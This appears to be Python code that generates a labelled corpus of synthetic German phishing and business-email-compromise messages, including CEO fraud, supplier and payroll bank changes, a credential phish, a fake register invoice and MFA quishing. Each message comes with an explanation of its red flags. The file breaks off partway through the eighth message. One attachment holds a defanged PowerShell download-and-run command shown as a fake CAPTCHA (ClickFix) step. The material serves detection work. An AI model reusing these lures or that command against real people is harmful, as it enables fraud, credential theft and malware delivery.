"""German attack messages (01-08)."""
import banking as B
import company as C
import infra as I
import mime as M
import pdf
import qr
import util as U
import zipc
from msg import (Msg, alt, hdrs_gmail, hdrs_outlook365, hdrs_outlook_smtp, hdrs_phpmailer,
                 hdrs_roundcube, outlook_classic_boundary, outlook_smtp_msgid)


def a01():
    m = Msg("attack", 1, "de", "ceo-fraud-acquisition-lookalike")
    r = m.rng
    m.t = I.at(2026, 10, 14, 8, 47, 12, "EU")
    env = m.env = I.eop(r, m.t, "exarnple.com", region="eurprd02", pod="DU0PR02MB")
    m.rcpt = "sabine.krueger@example.com"
    m.mailfrom = "matthias.hoefer@exarnple.com"
    cs = "iso-8859-1"
    frm = M.addr("Dr. Matthias Höfer", "matthias.hoefer@exarnple.com", cs)
    to = M.addr("Sabine Krüger", "sabine.krueger@example.com", cs)
    subj = M.hdr_text("Vertraulich: Projekt Donau - heute noch zu erledigen", cs)
    paras = [
        "Guten Morgen Frau Krüger,",
        "",
        "ich bin heute und morgen in Wien in Gesprächen mit den Gesellschaftern eines Rechenzentrumsbetreibers - es geht um die Übernahme, die ich im Beirat bereits angedeutet hatte (intern \"Projekt Donau\"). Bis zur Signing-Meldung ist der Vorgang streng vertraulich und insiderrelevant, bitte daher auch gegenüber den Kollegen im Haus nichts erwähnen und nichts in den Freigabe-Workflow stellen.",
        "",
        "Im Laufe des Vormittags meldet sich Herr RA Dr. Clemens Kessler von der begleitenden Kanzlei bei Ihnen. Wir müssen heute noch die Exklusivitätszahlung auf das Anderkonto der Kanzlei leisten, sonst geht die Exklusivität an den zweiten Bieter. Herr Dr. Kessler schickt Ihnen die Kontodaten und das Schreiben der Gegenseite, die Zahlung bitte als Einzelüberweisung mit Ausführung heute.",
        "",
        "Schaffen Sie das bis 14:00 Uhr? Ich sitze durchgehend in Terminen und bin nur per Mail erreichbar, bitte keine Anrufe auf dem Handy.",
        "",
        "Danke für Ihre Diskretion - ich erkläre Ihnen alles Weitere am Montag persönlich.",
        "",
        "Beste Grüße",
        "Matthias Höfer",
    ]
    sig = ["Dr. Matthias Höfer | Geschäftsführer / CEO", "Example Group GmbH | Hanauer Landstraße 312 | 60314 Frankfurt am Main"]
    text = M.paras_to_text(paras + [""] + sig)
    html = M.outlook_html(paras, cs, "DE", sig)
    m.headers = hdrs_outlook365(env, m.t, frm, to, subj, lang="de-DE", rng=r,
                                extra=[("Reply-To", M.addr("Dr. Matthias Höfer", "m.hoefer.office@exarnple.com", cs))])
    m.post_headers = env.ms_post
    m.body = alt(text, html, cs, "quoted-printable", "quoted-printable", env.boundary(0))
    m.what = "CEO fraud opener: 'CEO' asks the CFO for a confidential same-day 'exclusivity payment' for an acquisition, announces a lawyer who will send account details"
    m.why = ("Look-alike domain exarnple.com ('rn' for 'm') sent from an unrelated Microsoft 365 tenant; Reply-To to a second "
             "look-alike mailbox; secrecy, bypass of the approval workflow, same-day deadline, refuses phone calls, fake-lawyer follow-up: classic BEC/CEO fraud")
    return m


def a02():
    m = Msg("attack", 2, "de", "supplier-bank-change-lookalike")
    r = m.rng
    m.t = I.at(2026, 10, 20, 10, 22, 41, "EU")
    dom = "lieferant-gmhb.de"
    m.env = env = I.postfix_server(r, m.t, "mail.%s" % dom, "173.212.%d.%d" % (r.randint(192, 254), r.randint(2, 250)),
                                   client_ip="127.0.0.1", local_submit=True, client_helo="DESKTOP-7K2Q9LM",
                                   rdns="vmi%d.contaboserver.net" % r.randint(2100000, 2399999))
    m.rcpt = "juergen.weiss@example.com"
    m.mailfrom = "p.lang@%s" % dom
    cs = "iso-8859-1"
    frm = M.addr("Petra Lang", "p.lang@%s" % dom, cs)
    to = M.addr("Jürgen Weiß", "juergen.weiss@example.com", cs)
    subj = M.hdr_text("Mitteilung: Neue Bankverbindung Lieferant GmbH ab 01.11.2026", cs)
    new_iban = B.de_iban("10011001", "264810735")   # N26 (mule account)
    paras = [
        "Sehr geehrter Herr Weiß,",
        "",
        "im Zuge der Zusammenführung unseres Zahlungsverkehrs bei einer neuen Hausbank ändert sich unsere Bankverbindung zum 01.11.2026. Unser bisheriges Konto bei der Frankfurter Sparkasse wird zum 31.10.2026 geschlossen, Zahlungseingänge auf dieses Konto werden danach automatisch zurückgebucht.",
        "",
        "Neue Bankverbindung:",
        "Kontoinhaber: Lieferant GmbH",
        "IBAN: %s" % B.fmt_iban(new_iban),
        "BIC: NTSBDEB1XXX",
        "",
        "Das unterschriebene Schreiben unserer Geschäftsführung finden Sie im Anhang. Wir bitten Sie, die offenen Posten RE-2026-10418 (18.340,00 EUR) und RE-2026-10467 (6.912,50 EUR) bereits auf die neue Verbindung zu überweisen, damit es nicht zu Rückläufern kommt.",
        "",
        "Bitte bestätigen Sie uns die Umstellung in Ihren Stammdaten kurz per E-Mail. Telefonisch bin ich wegen unseres Büroumzugs diese Woche leider nur eingeschränkt erreichbar.",
        "",
        "Vielen Dank für Ihre Unterstützung.",
        "",
        "Mit freundlichen Grüßen",
        "",
        "Petra Lang",
        "Auftragsabwicklung / Debitorenbuchhaltung",
        "",
        "Lieferant GmbH",
        "Industriestraße 14 | 63067 Offenbach am Main",
        "Tel. +49 69 8297 4410 | Fax +49 69 8297 4499",
        "Geschäftsführer: Stefan Maier, Dr. Ralf Unger | HRB 41873 Amtsgericht Offenbach",
    ]
    text = M.paras_to_text(paras)
    html = M.outlook_html(paras, cs, "DE")
    msgid = outlook_smtp_msgid(r, m.t, dom)
    h, post = hdrs_outlook_smtp(m.t, frm, to, subj, msgid, rng=r)
    m.headers = h
    bnd = outlook_classic_boundary(r, m.t)
    letter = pdf.make_pdf([
        ("Lieferant GmbH", 16, True), "Industriestraße 14, 63067 Offenbach am Main", "", "",
        "Example Group GmbH", "Kreditorenbuchhaltung", "Hanauer Landstraße 312", "60314 Frankfurt am Main", "", "",
        ("Änderung unserer Bankverbindung", 12, True), "", "Offenbach, 19.10.2026", "",
        "Sehr geehrte Damen und Herren,", "",
        "wir teilen Ihnen mit, dass sich unsere Bankverbindung mit Wirkung zum 01.11.2026 ändert.",
        "Bitte leisten Sie alle Zahlungen, auch für bereits fällige Rechnungen, ausschließlich auf:", "",
        "Kontoinhaber: Lieferant GmbH", "IBAN: %s" % B.fmt_iban(new_iban), "BIC: NTSBDEB1XXX", "",
        "Das bisherige Konto wird zum 31.10.2026 aufgelöst.", "", "Mit freundlichen Grüßen", "", "",
        "Stefan Maier, Geschäftsführer", "", "",
        ("Lieferant GmbH | HRB 41873 AG Offenbach | USt-IdNr. %s" % B.de_ustid("21847605"), 8),
    ], title="Bankverbindung", author="p.lang", creator="Microsoft® Word für Microsoft 365",
        producer="Microsoft® Word für Microsoft 365", date="D:20261019163412+02'00'")
    m.body = M.multipart("mixed", [
        alt(text, html, cs, "quoted-printable", "quoted-printable", bnd(1)),
        M.attachment(letter, "application/pdf", "Bankverbindung_Lieferant_GmbH_2026.pdf", describe="PDF letter with the new (mule) IBAN"),
    ], bnd(0))
    m.post_headers = post
    m.what = "Supplier bank-detail change from a look-alike of Lieferant GmbH asking to pay open invoices to a new account"
    m.why = ("Domain lieferant-gmhb.de (transposed 'bh') on a Contabo VPS, not the supplier's server; new account at an online bank, "
             "pressure to redirect already open invoices, confirmation only by e-mail and phone contact discouraged; "
             "compare the genuine announcement business/02")
    return m


def a03():
    m = Msg("attack", 3, "de", "erechnung-portal-credential-phish")
    r = m.rng
    m.t = I.at(2026, 10, 27, 6, 58, 3, "EU")
    m.env = env = I.sendgrid(r, m.t)
    m.rcpt = "monika.fuchs@example.com"
    m.mailfrom = "bounces+38104972-%s-monika.fuchs=example.com@em7714.erechnung-postfach.de" % I.rhex(r, 4)
    cs = "utf-8"
    frm = M.addr("E-Rechnung Eingangsportal", "benachrichtigung@erechnung-postfach.de", cs)
    to = "monika.fuchs@example.com"
    subj = M.hdr_text("Neue E-Rechnung (XRechnung) zur Abholung bereitgestellt – Lieferant GmbH – RE-2026-10871", cs, "Q")
    link = "https://u38104972.ct.sendgrid.net/ls/click?upn=u001.%s-2B%s" % (I.rstr(r, 90, I.ALNUM), I.rstr(r, 40, I.ALNUM))
    text = M.paras_to_text([
        "E-Rechnung Eingangsportal – Benachrichtigung",
        "",
        "Guten Tag,",
        "",
        "für Ihr Unternehmen Example Group GmbH wurde eine strukturierte elektronische Rechnung (XRechnung 3.0.2, UBL) hinterlegt:",
        "",
        "Rechnungssteller: Lieferant GmbH, Offenbach am Main",
        "Rechnungsnummer: RE-2026-10871",
        "Rechnungsbetrag: 23.482,17 EUR",
        "Fälligkeit: 30.10.2026",
        "",
        "Seit dem 01.01.2025 sind Unternehmen verpflichtet, E-Rechnungen empfangen und verarbeiten zu können. Bitte rufen Sie das Dokument innerhalb von 5 Werktagen ab; nicht abgerufene Rechnungen gelten als zugestellt.",
        "",
        "Rechnung abrufen:",
        link,
        "",
        "Die Anmeldung erfolgt mit Ihrem Unternehmenskonto (Microsoft 365 / Single Sign-On).",
        "",
        "Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.",
        "E-Rechnung Eingangsportal · Zustelldienst für strukturierte Rechnungen gem. § 14 UStG",
    ])
    inner = """<table width="100%%" cellpadding="0" cellspacing="0" style="background:#f4f5f7"><tr><td align="center" style="padding:24px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #dfe3e8">
<tr><td style="background:#0b3d6b;color:#ffffff;padding:18px 24px;font-size:18px;font-weight:bold">E-Rechnung Eingangsportal</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#1f2933;line-height:1.5">
<p>Guten Tag,</p>
<p>für Ihr Unternehmen <b>Example Group GmbH</b> wurde eine strukturierte elektronische Rechnung (XRechnung 3.0.2, UBL) hinterlegt:</p>
<table cellpadding="6" style="font-size:14px;border-collapse:collapse">
<tr><td style="color:#52606d">Rechnungssteller</td><td><b>Lieferant GmbH</b>, Offenbach am Main</td></tr>
<tr><td style="color:#52606d">Rechnungsnummer</td><td>RE-2026-10871</td></tr>
<tr><td style="color:#52606d">Rechnungsbetrag</td><td>23.482,17 EUR</td></tr>
<tr><td style="color:#52606d">Fälligkeit</td><td>30.10.2026</td></tr></table>
<p>Seit dem 01.01.2025 sind Unternehmen verpflichtet, E-Rechnungen empfangen und verarbeiten zu können. Bitte rufen Sie das Dokument innerhalb von 5 Werktagen ab; nicht abgerufene Rechnungen gelten als zugestellt.</p>
<p style="text-align:center;padding:12px 0"><a href="%s" style="background:#0b6bcb;color:#ffffff;padding:12px 28px;text-decoration:none;border-radius:3px;font-weight:bold">Rechnung abrufen</a></p>
<p style="font-size:12px;color:#52606d">Die Anmeldung erfolgt mit Ihrem Unternehmenskonto (Microsoft 365 / Single Sign-On).</p>
</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#7b8794;border-top:1px solid #dfe3e8">Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.<br>E-Rechnung Eingangsportal &middot; Zustelldienst für strukturierte Rechnungen gem. &sect; 14 UStG</td></tr>
</table></td></tr></table>
<img src="https://u38104972.ct.sendgrid.net/wf/open?upn=u001.%s" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important">""" % (link, I.rstr(r, 80, I.ALNUM))
    html = M.simple_html(inner, "utf-8", "E-Rechnung")
    m.headers = [
        ("From", frm), ("Date", I.rfc2822(m.t, "UTC")), ("Mime-Version", "1.0"),
        ("Subject", subj), ("Message-ID", env.msgid), ("Reply-To", "noreply@erechnung-postfach.de"),
        ("To", to)]
    m.body = alt(text, html, cs, "quoted-printable", "quoted-printable", env.boundary(0), label="utf-8", ct_style="plain")
    m.what = "Credential phishing: fake 'E-Rechnung Eingangsportal' notification about a Lieferant GmbH XRechnung, link via SendGrid click tracking to a Microsoft 365 sign-in page"
    m.why = ("There is no central German e-invoice inbox portal; XRechnung arrives directly from the supplier. Unrelated newly-registered domain, "
             "bulk ESP (SendGrid) hides the destination behind a click-tracking redirect, asks for the corporate M365 login, deadline pressure; "
             "real Lieferant invoices come as business/03")
    return m


def a04():
    m = Msg("attack", 4, "de", "payroll-diversion-freemail")
    r = m.rng
    m.t = I.at(2026, 11, 16, 7, 31, 50, "EU")
    m.env = env = I.nemesis(r, m.t, "web", client_ip="185.220.%d.%d" % (r.randint(100, 102), r.randint(2, 250)), webmail=True)
    env.msgid = "<trinity-%s-%d@3c-app-webde-bap%02d>" % (I.ruuid(r), int(m.t.timestamp() * 1000), r.randint(1, 60))
    m.rcpt = "anja.schroeder@example.com"
    m.mailfrom = "frank.zimmermann.fra@web.de"
    cs = "UTF-8"
    frm = M.addr("Frank Zimmermann", "frank.zimmermann.fra@web.de")
    to = M.addr("Anja Schröder", "anja.schroeder@example.com", "UTF-8")
    subj = M.hdr_text("Neue Bankverbindung für meine Gehaltszahlung", "UTF-8")
    new_iban = B.de_iban("11010100", "583026147")   # Solaris-based account
    text = M.paras_to_text([
        "Hallo Anja,",
        "",
        "ich habe mein Gehaltskonto gewechselt (die alte Bank hat die Kontoführung für mein Modell eingestellt). Kannst du bitte die neue Bankverbindung schon für die November-Abrechnung hinterlegen?",
        "",
        "Kontoinhaber: Frank Zimmermann",
        "IBAN: %s" % B.fmt_iban(new_iban),
        "",
        "Ich schreibe dir von privat, weil ich den ganzen Tag in FRA2 bei der Abnahme der neuen Batterieanlage stehe und nicht ans Notebook komme. Das Formular kann ich dir gern nächste Woche nachreichen, falls ihr das braucht – Hauptsache, es klappt noch zum Lauf am 20.",
        "",
        "Kurze Bestätigung an diese Adresse wäre super.",
        "",
        "Danke dir und viele Grüße",
        "Frank",
    ])
    m.headers = [("MIME-Version", "1.0"), ("Message-ID", env.msgid), ("From", frm), ("To", to),
                 ("Subject", subj), ("Date", I.rfc2822(m.t, "EU")), ("Importance", "normal"),
                 ("Sensitivity", "Normal")]
    m.body = M.text_part(text, "plain", "utf-8", "quoted-printable", label="UTF-8", ct_style="plain")
    m.what = "Payroll diversion: 'site manager Frank Zimmermann' asks HR from a private web.de address to change his salary account before the payroll run"
    m.why = ("Address not on file (frank.zimmermann.fra@web.de), submitted via web.de webmail from a Tor exit-node range, unverified bank change "
             "to an online-bank (Solaris) IBAN, deadline tied to the payroll run, asks for confirmation only by reply, offers the form 'later'")
    return m


def a05():
    m = Msg("attack", 5, "de", "fake-register-invoice")
    r = m.rng
    m.t = I.at(2026, 11, 3, 9, 5, 17, "EU")
    m.env = env = I.brevo(r, m.t)
    m.rcpt = "juergen.weiss@example.com"
    m.mailfrom = "bounces-%d-%s@sender-sib.com" % (r.randint(100000, 999999), I.rhex(r, 12))
    cs = "utf-8"
    frm = M.addr("DHGR Deutsches Handels- und Gewerberegister", "service@dhgr-register.de", cs)
    subj = M.hdr_text("Eintragungsofferte Az. DHGR-2026-118247 – Example Group GmbH – Zahlungsfrist 8 Tage", cs, "B")
    pl_iban = B.pl_iban("1050155", "1000009031582147")
    lines_txt = [
        "Sehr geehrte Damen und Herren,",
        "",
        "aufgrund der Veröffentlichung Ihrer Gesellschaft Example Group GmbH (HRB 118247, Amtsgericht Frankfurt am Main) übersenden wir Ihnen anbei die Unterlagen zur Aktualisierung Ihres Eintrags im Deutschen Handels- und Gewerberegister (DHGR).",
        "",
        "Aktenzeichen: DHGR-2026-118247",
        "Eintragungsgebühr: 798,00 EUR zzgl. USt.",
        "Zahlungsfrist: 8 Tage ab Zugang",
        "",
        "Bitte überweisen Sie den Betrag unter Angabe des Aktenzeichens auf das im Dokument genannte Konto. Nach Zahlungseingang wird Ihr Eintrag für die Dauer von drei Jahren veröffentlicht und ist über unser Registerportal abrufbar.",
        "",
        "Mit freundlichen Grüßen",
        "DHGR Registerservice",
        "",
        "Hinweis: Die Aktualisierung erfolgt auf Grundlage öffentlich zugänglicher Daten. Es handelt sich um ein Angebot eines privaten Verzeichnisdienstes.",
    ]
    text = M.paras_to_text(lines_txt)
    inner = "<div style=\"max-width:640px;margin:0 auto;background:#fff;padding:28px;font-size:14px;color:#222;line-height:1.5\">" + \
        "<div style=\"border-bottom:3px solid #8b0000;padding-bottom:8px;margin-bottom:18px\"><span style=\"font-size:20px;font-weight:bold;color:#8b0000\">DHGR</span> <span style=\"color:#555\">Deutsches Handels- und Gewerberegister</span></div>" + \
        "".join("<p>%s</p>" % M.esc(p) if p else "" for p in lines_txt[:-1]) + \
        "<p style=\"font-size:9px;color:#999\">%s</p></div>" % M.esc(lines_txt[-1]) + \
        "<img width=\"1\" height=\"1\" src=\"https://dhgr-register.r.sp1-brevo.net/tr/op/%s\" alt=\"\">" % I.rstr(r, 60, I.ALNUM + "-_")
    html = M.simple_html(inner, "utf-8", "DHGR")
    doc = pdf.make_pdf([
        ("DHGR  Deutsches Handels- und Gewerberegister", 15, True), "Registerservice · Postfach 10 44 12 · 10178 Berlin", "", "",
        "Example Group GmbH", "Hanauer Landstraße 312", "60314 Frankfurt am Main", "", "",
        ("EINTRAGUNGSOFFERTE / RECHNUNG", 13, True), "",
        "Aktenzeichen: DHGR-2026-118247          Datum: 02.11.2026", "Registergericht: Amtsgericht Frankfurt am Main, HRB 118247", "",
        "Leistung: Aktualisierung und Veröffentlichung des Firmeneintrags (36 Monate)",
        "Nettobetrag:                        798,00 EUR", "Umsatzsteuer 19 %:                151,62 EUR", ("Gesamtbetrag:                      949,62 EUR", 11, True), "",
        "Zahlbar innerhalb von 8 Tagen ohne Abzug auf:",
        "Empfänger: DHGR Registerservice", "IBAN: %s" % B.fmt_iban(pl_iban), "BIC: BPKOPLPW", "Verwendungszweck: DHGR-2026-118247", "", "",
        ("Mit Zahlung kommt ein Vertrag über die Veröffentlichung in unserem privaten Verzeichnis mit einer Laufzeit von 36 Monaten", 7),
        ("zustande (jährlich 798,00 EUR netto). Keine Verbindung zu amtlichen Registern. Gerichtsstand Berlin.", 7),
    ], title="DHGR-2026-118247", author="DHGR", creator="Crystal Reports", producer="PDFlib+PDI 9.2.0", date="D:20261102181144+01'00'")
    m.headers = [("From", frm), ("To", "juergen.weiss@example.com"), ("Subject", subj),
                 ("Date", I.rfc2822(m.t, "UTC")), ("Message-Id", env.msgid), ("MIME-Version", "1.0"),
                 ("List-Unsubscribe", "<https://dhgr-register.r.sp1-brevo.net/mk/un/v2/%s>" % I.rstr(r, 70, I.ALNUM + "-_"))]
    m.body = M.multipart("mixed", [
        alt(text, html, cs, "base64", "base64", env.boundary(1), label="utf-8", ct_style="plain"),
        M.attachment(doc, "application/pdf", "Rechnung_Eintrag_DHGR-2026-118247.pdf", describe="PDF 'invoice' with small-print 36-month subscription"),
    ], env.boundary(0))
    m.what = "Fake register 'invoice' (Eintragungsofferte) for a worthless private directory entry, styled as an official register fee"
    m.why = ("Private 'Deutsches Handels- und Gewerberegister' mimics the Handelsregister using the public HRB number, PDF titled RECHNUNG with payment deadline, "
             "36-month subscription hidden in 7-pt small print, payment to a Polish bank account, bulk-sent via Brevo")
    return m


def a06():
    m = Msg("attack", 6, "de", "quishing-m365-mfa-compromised-sender")
    r = m.rng
    m.t = I.at(2026, 11, 5, 13, 12, 9, "EU")
    cip = "102.%d.%d.%d" % (r.randint(88, 91), r.randint(0, 255), r.randint(1, 254))
    m.env = env = I.nemesis(r, m.t, "ionos", client_ip=cip, client_helo="WIN-8HS2KQ1LM0P")
    env.msgid = "<%s@schreinerei-brunnhuber.de>" % I.rhex(r, 32)
    m.rcpt = "juergen.weiss@example.com"
    m.mailfrom = "info@schreinerei-brunnhuber.de"
    cs = "utf-8"
    frm = M.addr("Microsoft 365 Sicherheitsdienst", "info@schreinerei-brunnhuber.de", cs)
    subj = M.hdr_text("Aktion erforderlich: Ihre Multi-Faktor-Authentifizierung läuft am 06.11.2026 ab", cs, "B")
    url = "https://mfa-erneuerung.m365-sicherheitscenter.com/de/?tid=example.com&u=juergen.weiss%40example.com&r=" + I.rhex(r, 12)
    png = qr.qr_png(url, "M", scale=5)
    text = M.paras_to_text([
        "Microsoft 365 – Sicherheitsinformationen",
        "",
        "Hallo Jürgen Weiß,",
        "",
        "Ihre Registrierung für die Multi-Faktor-Authentifizierung (MFA) für juergen.weiss@example.com läuft am 06.11.2026 ab. Gemäß der Sicherheitsrichtlinie Ihrer Organisation muss die Registrierung erneut bestätigt werden, andernfalls wird der Zugriff auf Outlook, Teams und SharePoint vorübergehend gesperrt.",
        "",
        "Scannen Sie den QR-Code mit der Kamera Ihres Smartphones, um die Bestätigung in der Microsoft Authenticator-App abzuschließen. Der Vorgang dauert weniger als eine Minute.",
        "",
        "Referenz: MFA-DE-%s" % I.rhex(r, 8).upper(),
        "",
        "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052",
    ])
    inner = ("<table width=\"100%%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\" style=\"padding:20px\">"
             "<table width=\"560\" style=\"background:#fff;font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#323130\">"
             "<tr><td style=\"padding:20px 24px 0 24px\"><span style=\"font-size:17px;color:#737373\">&#9632;&#9632; Microsoft 365</span></td></tr>"
             "<tr><td style=\"padding:8px 24px\"><h2 style=\"font-weight:600;font-size:22px;color:#0078d4\">Bestätigung Ihrer Sicherheitsinformationen</h2>"
             "<p>Hallo Jürgen Weiß,</p><p>Ihre Registrierung für die Multi-Faktor-Authentifizierung (MFA) für <b>juergen.weiss@example.com</b> läuft am <b>06.11.2026</b> ab. "
             "Gemäß der Sicherheitsrichtlinie Ihrer Organisation muss die Registrierung erneut bestätigt werden, andernfalls wird der Zugriff auf Outlook, Teams und SharePoint vorübergehend gesperrt.</p>"
             "<p>Scannen Sie den QR-Code mit der Kamera Ihres Smartphones, um die Bestätigung in der Microsoft Authenticator-App abzuschließen.</p>"
             "<p style=\"text-align:center\"><img src=\"cid:qr_%s@mfa\" width=\"205\" height=\"205\" alt=\"QR-Code\"></p>"
             "<p style=\"font-size:12px;color:#605e5c\">Referenz: MFA-DE-%s</p></td></tr>"
             "<tr><td style=\"padding:16px 24px;font-size:11px;color:#8a8886\">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table></td></tr></table>") % (
        I.rhex(r, 8), I.rhex(r, 8).upper())
    cid = inner.split("cid:")[1].split("\"")[0]
    html = M.simple_html(inner, "utf-8", "Microsoft 365")
    m.headers = [("Date", I.rfc2822(m.t, "EU")), ("From", frm), ("To", "juergen.weiss@example.com"),
                 ("Subject", subj), ("Message-ID", env.msgid), ("X-Mailer", "Microsoft Outlook 16.0"),
                 ("MIME-Version", "1.0")]
    b = env.boundary
    m.body = M.multipart("related", [
        alt(text, html, cs, "base64", "base64", b(2), label="UTF-8"),
        M.attachment(png, "image/png", "qr.png", inline=True, cid=cid, describe="inline PNG QR code -> phishing URL"),
    ], b(0), extra_ct='; type="multipart/alternative"')
    m.what = "Quishing: fake Microsoft 365 MFA re-registration notice with an inline QR code (encodes %s)" % url
    m.why = ("Sent through the IONOS account of an unrelated carpentry business (compromised mailbox, client IP in Africa, forged X-Mailer); "
             "Microsoft does not send MFA 'expiry' mails with QR codes; QR hides a look-alike credential-harvesting URL from link scanners and moves the victim to a phone")
    m.qr_url = url
    return m


def a07():
    m = Msg("attack", 7, "de", "clickfix-html-rfq-freemail")
    r = m.rng
    m.t = I.at(2026, 11, 10, 15, 44, 20, "EU")
    m.env = env = I.gmail(r, m.t)
    m.rcpt = "julia.hartmann@examplegroup.eu"
    m.mailfrom = "r.kaestner.systemtechnik@gmail.com"
    frm = M.addr("Ralf Kästner", "r.kaestner.systemtechnik@gmail.com", "UTF-8", "Q")
    subj = M.hdr_text("Anfrage Colocation: 4 Racks FRA, Ausschreibungsunterlagen", "UTF-8")
    paras = [
        "Sehr geehrte Frau Hartmann,",
        "",
        "wir (Kästner Systemtechnik GmbH, Hanau) planen die Verlagerung unserer Serverinfrastruktur aus dem eigenen Serverraum in ein Rechenzentrum im Raum Frankfurt. Bedarf: 4 Racks à 42 HE, je 2 x 16 A redundant, 2 x 1 Gbit/s Uplink, Remote Hands, Start Q1 2027.",
        "",
        "Die vollständigen Anforderungen inkl. Leistungsverzeichnis haben wir aus unserem Ausschreibungsportal exportiert, das Dokument hängt an. Es lässt sich direkt im Browser öffnen (Edge oder Chrome), unter Umständen müssen Sie dort einmalig den Zugriff bestätigen.",
        "",
        "Für ein Angebot bis zum 20.11. wäre ich dankbar, gern auch ein kurzes Telefonat vorab.",
        "",
        "Mit freundlichen Grüßen",
        "Ralf Kästner",
        "Leitung IT",
        "Kästner Systemtechnik GmbH",
    ]
    text = M.paras_to_text(paras)
    html = M.gmail_html(paras)
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Leistungsverzeichnis Colocation - Dokumentenansicht</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3;margin:0}
.box{max-width:520px;margin:80px auto;background:#fff;border:1px solid #ddd;padding:28px;box-shadow:0 2px 8px rgba(0,0,0,.1)}
.chk{border:1px solid #ccc;padding:14px;display:flex;align-items:center;gap:12px;background:#fafafa}
kbd{border:1px solid #999;border-radius:3px;padding:1px 5px;background:#eee;font-size:13px}
code{display:block;background:#222;color:#ddd;padding:8px;font-size:12px;word-break:break-all;margin-top:10px}</style></head>
<body><div class="box">
<h3>Dokument wird geladen &hellip;</h3>
<p>Leistungsverzeichnis_Colocation_FRA_Kaestner.pdf (2,4 MB)</p>
<div class="chk"><span style="font-size:22px">&#9744;</span> Ich bin kein Roboter <span style="margin-left:auto;font-size:11px;color:#888">reCAPTCHA<br>Datenschutz - Nutzungsbedingungen</span></div>
<p style="margin-top:18px"><b>Verifizierung erforderlich.</b> Um das Dokument anzuzeigen, bestätigen Sie bitte, dass Sie ein Mensch sind:</p>
<ol><li>Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Drücken Sie <kbd>Strg</kbd> + <kbd>V</kbd></li>
<li>Drücken Sie <kbd>Enter</kbd></li></ol>
<p style="font-size:12px;color:#666">Verifizierungs-ID: 7731-%s</p>
<code>powershell -w h -nop -c "iex(irm hxxps://cdn-docverify[.]com/v/%s)" # Ich bin kein Roboter - reCAPTCHA Verifizierungs-ID: 7731</code>
</div></body></html>
""" % (I.rhex(r, 6).upper(), I.rhex(r, 8))
    m.headers = hdrs_gmail(env, m.t, frm, M.addr("Julia Hartmann", "julia.hartmann@examplegroup.eu"), subj, r)
    b = env.boundary
    m.body = M.multipart("mixed", [
        alt(text, html, "utf-8", "quoted-printable", "quoted-printable", b(1), label="UTF-8"),
        M.attachment(page.encode("utf-8"), "text/html; charset=\"UTF-8\"", "Leistungsverzeichnis_Colocation_FRA.html",
                     extra_headers=[("X-Attachment-Id", "f_m%s0" % I.rhex(r, 7))], describe="HTML 'document viewer' with fake CAPTCHA (ClickFix), no script"),
    ], b(0))
    m.what = "ClickFix: RFQ for colocation from a Gmail 'IT manager' with an HTML attachment showing a fake reCAPTCHA that tells the user to press Win+R, Ctrl+V, Enter"
    m.why = ("Prospect on freemail, HTML 'exported document' that only displays a fake CAPTCHA instructing to paste a PowerShell download-cradle into the Run dialog "
             "(ClickFix/fake-CAPTCHA malware delivery); in this inert sample the command is defanged and no script copies it")
    return m


def a08():
    m = Msg("attack", 8, "de", "fake-lawyer-copyright-passworded-zip")
    r = m.rng
    m.t = I.at(2026, 10, 29, 11, 3, 46, "EU")
    server = "dd%d.kasserver.com" % r.randint(10000, 59999)
    m.env = env = I.postfix_server(r, m.t, server, "85.13.%d.%d" % (r.randint(128, 170), r.randint(2, 250)),
                                   client_ip="45.%d.%d.%d" % (r.randint(80, 95), r.randint(0, 255), r.randint(2, 250)),
                                   client_helo="[10.8.0.14]")
    m.rcpt = "abuse@example.com"
    dom = "bergmann-thiel-rechtsanwaelte.de"
    m.mailfrom = "kanzlei@%s" % dom
    cs = "windows-1252"
    frm = M.addr("Rechtsanwaltskanzlei Bergmann & Thiel", "kanzlei@%s" % dom, cs)
    subj = M.hdr_text("Abmahnung wegen Urheberrechtsverletzung - Ihr Kunde auf Server 185.41.20.77 - Az. 2026/4471-BT - Frist 05.11.2026", cs)
    pw = "BT-4471"
    paras = [
        "Sehr geehrte Damen und Herren,",
        "",
        "wir zeigen an, dass wir die Interessen der Lumen Bildagentur GmbH, Hamburg, vertreten. Eine auf uns lautende Vollmacht ist beigefügt.",
        "",
        "Über den von Ihnen betriebenen Server mit der IP-Adresse 185.41.20.77 werden seit mindestens 14.09.2026 Lichtbilder unserer Mandantin ohne Lizenz öffentlich zugänglich gemacht (§ 19a UrhG). Als Hostprovider sind Sie nach Kenntniserlangung zur unverzüglichen Sperrung verpflichtet; andernfalls haften Sie als Störer bzw. nach Art. 6 DSA.",
        "",
        "Wir fordern Sie auf, bis zum 05.11.2026",
        "1. die rechtsverletzenden Inhalte zu entfernen,",
        "2. uns den Namen und die Anschrift des Betreibers mitzuteilen und",
        "3. die beigefügte strafbewehrte Unterlassungserklärung unterzeichnet zurückzusenden.",
        "",
        "Die vollständige Beweisdokumentation (Screenshots mit Zeitstempel, Serverprotokolle, Lizenznachweise) übersenden wir Ihnen aus datenschutzrechtlichen Gründen als verschlüsseltes Archiv.",
        "Kennwort für das Archiv: %s" % pw,
        "",
        "Nach fruchtlosem Fristablauf werden wir unserer Mandantin empfehlen, ohne weitere Ankündigung gerichtliche Hilfe in Anspruch zu nehmen. Der Gegenstandswert wird mit 30.000,00 EUR angesetzt.",
        "",
        "Mit freundlichen Grüßen",
        "",
        "Dr. Henrik Bergmann",
        "Rechtsanwalt | Fachanwalt für Urheber- und Medienrecht",
        "Rechtsanwaltskanzlei Bergmann & Thiel",
        "Kurfürstendamm 61 | 10707 Berlin",
    ]
    text = M.paras_to_text(paras)
    html = M.outlook_html(paras, cs, "DE")
    msgid = outlook_smtp_msgid(r, m.t, dom)
